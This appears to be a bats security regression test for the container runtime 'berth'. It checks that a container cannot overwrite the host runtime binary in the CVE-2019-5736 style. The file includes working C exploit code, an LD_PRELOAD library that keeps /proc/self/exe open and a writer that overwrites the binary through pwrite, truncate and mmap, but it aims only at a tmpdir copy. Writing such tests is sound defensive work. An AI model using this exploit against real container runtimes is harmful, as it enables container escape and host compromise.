#!/usr/bin/env bats
# Issue 10, item 1 (CVE-2019-5736 class): a program the container chooses
# must never reach a writable berth binary. The image's entrypoint is a
# script starting `#!/proc/self/exe`, so the kernel runs the executable of
# the process that execs it (berth's) inside the container; an LD_PRELOAD
# library from the image keeps that executable open (fd 200), then execs a
# static writer that tries, for up to 10 s, to open /proc/self/fd/200 for
# writing and to overwrite its first bytes, then to truncate it and to
# change it through a shared writable mapping, recording what it saw in
# /attack-result. The attack targets a copy of berth in the test's tmpdir,
# so on a vulnerable berth only the copy is damaged.

load ../helpers

setup() {
  ID="$(unique_id exe)"
  T="$BATS_TEST_TMPDIR"
  B="$T/b"
  COPY="$T/berth-copy"
  cp "$BERTH" "$COPY"
  COPY_SHA="$(sha256sum <"$COPY")"
  make_bundle "$B" '.process.args = ["sleep", "1000"] | .root.readonly = false'
  build_attack "$B/rootfs"
}

teardown() {
  cleanup_containers # with the real berth: the copy may be the one damaged
}

# berth as the attacked copy (same state root as `berth`)
copy_berth() {
  _runtime "$COPY" --root "$BERTH_ROOT" "$@" </dev/null >"$T/out" 2>&1
}

# build_attack ROOTFS: berth's loader and libraries, the preload library,
# the writer and the #!/proc/self/exe entrypoint, all in ROOTFS
build_attack() {
  local rootfs=$1 lib
  for lib in $(ldd "$COPY" | grep -o '/[^ ]*'); do
    mkdir -p "$rootfs$(dirname "$lib")"
    cp -L "$lib" "$rootfs$lib"
  done
  cat >"$T/grab.c" <<'C'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
/* runs inside berth's executable: keep it open across the exec (no
 * O_CLOEXEC) so that it can be written once berth stopped running it */
__attribute__((constructor)) static void grab(void)
{
  int fd = open("/proc/self/exe", O_PATH);
  if (fd < 0 || dup2(fd, 200) < 0)
    _exit(101);
  unsetenv("LD_PRELOAD");
  char *argv[] = {"/writer", NULL};
  execve("/writer", argv, environ);
  _exit(102);
}
C
  cat >"$T/writer.c" <<'C'
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
#define EXE "/proc/self/fd/200"
static const char *name(int e)
{
  switch (e)
    {
    case 0: return "-";
    case ETXTBSY: return "ETXTBSY";
    case EPERM: return "EPERM";
    case EROFS: return "EROFS";
    case EACCES: return "EACCES";
    default: return "other";
    }
}
/* each returns 0 when it changed the file, else the errno that stopped it */
static int by_write(void)
{
  int fd = open(EXE, O_WRONLY);
  if (fd < 0)
    return errno;
  int e = pwrite(fd, "EVIL", 4, 0) == 4 ? 0 : errno;
  close(fd);
  return e;
}
static int by_truncate(void)
{
  int fd = open(EXE, O_WRONLY);
  if (fd < 0)
    return errno;
  int e = ftruncate(fd, 4) == 0 ? 0 : errno;
  close(fd);
  return e;
}
static int by_mmap(void)
{
  int fd = open(EXE, O_RDWR);
  if (fd < 0)
    return errno;
  char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  int e = p == MAP_FAILED ? errno : 0;
  if (p != MAP_FAILED)
    {
      p[1] = 'X';
      msync(p, 4096, MS_SYNC);
      munmap(p, 4096);
    }
  close(fd);
  return e;
}
int main(void)
{
  int e = ETXTBSY;
  /* ETXTBSY lasts while berth runs from the file: retry for up to 10 s */
  for (int i = 0; i < 500 && e == ETXTBSY; i++)
    if ((e = by_write()) == ETXTBSY)
      usleep(20000);
  FILE *f = fopen("/attack-result", "w");
  if (!f)
    return 1;
  fprintf(f, "write %s truncate %s mmap %s\n", name(e), name(by_truncate()), name(by_mmap()));
  return fclose(f) != 0;
}
C
  gcc -shared -fPIC -o "$rootfs/grab.so" "$T/grab.c"
  gcc -static -O1 -o "$rootfs/writer" "$T/writer.c"
  printf '#!/proc/self/exe\n' >"$rootfs/entry"
  chmod 0755 "$rootfs/entry"
}

# the writer's verdict, once it is there (it gives up after 10 s)
attack_result() {
  local i
  for i in $(seq 300); do
    [[ -s "$B/rootfs/attack-result" ]] && break
    sleep 0.05
  done
  cat "$B/rootfs/attack-result"
}

# the copy is untouched and the attacker was refused
assert_copy_intact() {
  local result=$1
  echo "attacker: $result" >&2
  [ "$(sha256sum <"$COPY")" = "$COPY_SHA" ]
  [[ "$result" =~ ^write\ (ETXTBSY|EPERM|EROFS)\ truncate\ (ETXTBSY|EPERM|EROFS)\ mmap\ (ETXTBSY|EPERM|EROFS)$ ]]
}

@test "run -d: a #!/proc/self/exe entrypoint with LD_PRELOAD cannot overwrite the berth binary" {
  bundle_edit "$B" '.process.args = ["/entry"] | .process.env += ["LD_PRELOAD=/grab.so"]'
  copy_berth run -d --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
  result="$(attack_result)"
  berth delete --force "$ID"
  assert_copy_intact "$result"
}

@test "exec -d: a #!/proc/self/exe program with LD_PRELOAD cannot overwrite the berth binary" {
  copy_berth run -d --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
  copy_berth exec -d --env LD_PRELOAD=/grab.so "$ID" /entry || { cat "$T/out" >&2; false; }
  result="$(attack_result)"
  berth delete --force "$ID"
  assert_copy_intact "$result"
}

@test "create+start: the init runs from a sealed copy, not from the berth binary" {
  bundle_edit "$B" '.process.args = ["/entry"] | .process.env += ["LD_PRELOAD=/grab.so"]'
  copy_berth create --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
  copy_berth start "$ID"
  result="$(attack_result)"
  berth delete --force "$ID"
  assert_copy_intact "$result"
}

# execs NAME...: how many times berth, traced without its children, exec'd
# itself after its start (0: it ran from the binary; 1: one sealed re-exec)
self_execs() {
  _runtime strace -qq -o "$T/trace" -e trace=execve,execveat "$BERTH" --root "$BERTH_ROOT" "$@" \
    </dev/null >"$T/out" 2>&1 || { cat "$T/out" >&2; return 1; }
  grep -c '^execveat(.*AT_EMPTY_PATH) = 0' "$T/trace" || true
}

@test "create, run and exec re-exec once from the sealed copy; state, list, kill, delete never exec" {
  command -v strace >/dev/null || skip "strace missing"
  [ "$(self_execs create --bundle "$B" "$ID")" = 1 ]
  [ "$(self_execs state "$ID")" = 0 ]
  [ "$(self_execs list)" = 0 ]
  [ "$(self_execs start "$ID")" = 0 ]
  [ "$(self_execs exec -d "$ID" true)" = 1 ]
  [ "$(self_execs kill "$ID" KILL)" = 0 ]
  [ "$(self_execs delete --force "$ID")" = 0 ]
  bundle_edit "$B" '.process.args = ["true"]'
  [ "$(self_execs run --bundle "$B" "$ID")" = 1 ]
  [ "$(self_execs --version)" = 0 ]
  [ "$(self_execs spec --help)" = 0 ]
  assert_no_leftovers "$ID"
}

@test "vm.memfd_noexec=2: root runs from the read-only clone; without CAP_SYS_ADMIN (no clone, no memfd) create, run and exec fail cleanly" {
  [ -e /proc/sys/vm/memfd_noexec ] || skip "kernel without vm.memfd_noexec"
  command -v capsh >/dev/null || skip "capsh missing (libcap2-bin)"
  berth run -d --bundle "$B" "$ID" </dev/null >/dev/null 2>&1
  local new="$ID-new" host_scope
  host_scope="$(cat /proc/sys/vm/memfd_noexec)"
  # the sysctl is per pid namespace: set in a fresh one, the host keeps its value
  make_bundle "$T/bt" '.process.args = ["true"]'
  # berth without CAP_SYS_ADMIN: no read-only clone of its mount either
  printf '%s\n' '#!/bin/sh' "exec capsh --drop=cap_sys_admin -- -c 'exec \"\$0\" \"\$@\"' \"\$@\"" >"$T/nb"
  chmod +x "$T/nb"
  run unshare --pid --fork sh -c '
    echo 2 >/proc/sys/vm/memfd_noexec || exit 99
    root=$4 nbin=$5
    b() { "$BERTH" --root "$root" "$@" </dev/null 3>&-; }
    nb() { "$nbin" "$BERTH" --root "$root" "$@" </dev/null 3>&-; }
    b run --bundle "$6" "$2-root"; echo "root-run=$?"
    nb run --bundle "$1" "$2"; echo "run=$?"
    nb create --bundle "$1" "$2"; echo "create=$?"
    nb exec "$3" true; echo "exec=$?"
    nb state "$3" >/dev/null; echo "state=$?"
    nb list -q; echo "list=$?"' _ "$B" "$new" "$ID" "$BERTH_ROOT" "$T/nb" "$T/bt"
  echo "$output" >&2
  [ "$status" -eq 0 ]
  local cmd
  for cmd in run create exec; do
    [[ "$output" == *"berth: $cmd: run from a sealed copy of berth: create an executable memfd: EACCES"* ]]
  done
  [[ "$output" == *"root-run=0"*"run=1"*"create=1"*"exec=1"*"state=0"*"list=0"* ]]
  assert_no_leftovers "$new-root"
  [ ! -e "$BERTH_ROOT/$new" ]
  assert_no_leftovers "$new"
  [ "$(cat /proc/sys/vm/memfd_noexec)" = "$host_scope" ]
}
